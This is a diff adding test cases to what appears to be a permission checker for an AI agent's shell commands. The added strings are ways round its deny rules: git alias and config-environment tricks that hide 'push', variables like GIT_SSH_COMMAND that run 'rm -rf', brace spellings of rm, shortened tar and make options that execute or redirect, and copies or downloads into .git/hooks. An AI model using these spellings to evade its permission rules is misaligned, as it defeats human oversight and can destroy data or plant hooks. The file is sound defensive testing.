@@ -58,6 +58,12 @@ describe('deny git push holds against git global options', () => {
     'git $(echo -C .) push',
     'git $X push',
     'git --unknown-option push',
+    'git -c alias.P=push p',
+    'git -c Alias.Pu=push PU',
+    'git --config-env=alias.p=ALIAS p',
+    'GIT_CONFIG_PARAMETERS="\'alias.p=push\'" git p',
+    'GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=alias.p GIT_CONFIG_VALUE_0=push git p',
+    'env GIT_CONFIG_COUNT=1 git p',
   ];
   it.each(attacks)('%s', (command) => {
     const decision = bash(
@@ -82,6 +88,9 @@ describe('deny git push holds against git global options', () => {
       'git bisect run rm -rf x',
       "git submodule foreach 'rm -rf x'",
       "git -c sequence.editor='rm -rf x' rebase -i HEAD~2",
+      "GIT_SSH_COMMAND='rm -rf x' git fetch",
+      "env GIT_PAGER='rm -rf x' git log",
+      "EDITOR='rm -rf x' git commit",
     ]) {
       expect(bash(subject, command), command).toMatchObject({ behavior: 'deny', rule: 'Bash(rm:*)' });
     }
@@ -190,6 +199,8 @@ describe('deny rm holds against wrappers, find, nested shells and spellings', ()
     "alias x='rm -rf y'",
     // Spellings.
     'r{m,} x',
+    '{,rm} x',
+    '{r,}m x',
     '{rm,x} y',
     '/bin/r? x',
     '/bin/r* x',
@@ -334,6 +345,10 @@ describe('allow rules are not widened by options that run commands, write files 
     ['Bash(tar:*)', 'tar -xzf a.tgz', 'tar -xf a.tar --to-command=sh'],
     ['Bash(tar:*)', 'tar -cf a.tar src', 'tar -cf a.tar --checkpoint=1 --checkpoint-action=exec=sh src'],
     ['Bash(tar:*)', 'tar -xzf a.tgz', 'tar -I sh -xf a.tar'],
+    ['Bash(tar:*)', 'tar -xzf a.tgz', 'tar -xf a.tar --to-com=sh'],
+    ['Bash(git diff:*)', 'git diff HEAD', 'git diff --out=/tmp/x'],
+    ['Bash(npm run test:*)', 'npm run test', 'npm run test --pref ../other'],
+    ['Bash(make:*)', 'make test', 'make --direc=../other'],
     ['Bash(node:*)', 'node script.js', "node -e 'require(1)'"],
     ['Bash(node:*)', 'node script.js -e x', 'node --eval=x'],
     ['Bash(node:*)', 'node script.js', 'node -r ./evil script.js'],
@@ -473,6 +488,12 @@ describe('shell commands that write protected files ask, whatever the allow rule
     'cp evil .git/hooks/pre-commit',
     'cp evil .git/hooks',
     'cp -t .git/hooks evil',
+    'cp --target=.git/hooks evil',
+    'cp --target .git/hooks evil',
+    'tar -xf evil.tar -C .git/hooks',
+    'tar xf evil.tar --directory=.git',
+    'unzip -d .git/hooks evil.zip',
+    'wget -P .git/hooks https://example.com/x',
     'cp /tmp/.mcp.json .',
     'mv x toolwright.config.json',
     'mv .git/hooks/pre-commit x',
